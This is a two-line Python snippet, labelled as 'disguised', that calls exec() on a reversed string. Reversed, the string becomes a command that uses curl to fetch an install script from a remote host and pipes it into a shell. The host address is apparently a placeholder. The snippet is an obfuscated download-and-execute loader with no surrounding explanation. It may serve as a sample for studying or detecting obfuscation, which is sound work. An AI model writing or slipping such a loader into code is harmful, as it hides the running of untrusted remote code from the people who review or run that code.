# Disguised: the program written backwards.
exec(")'hs | hs.llatsni/9.311.0.302//:ptth s- lruc'(metsys.so ;so tropmi"[::-1])
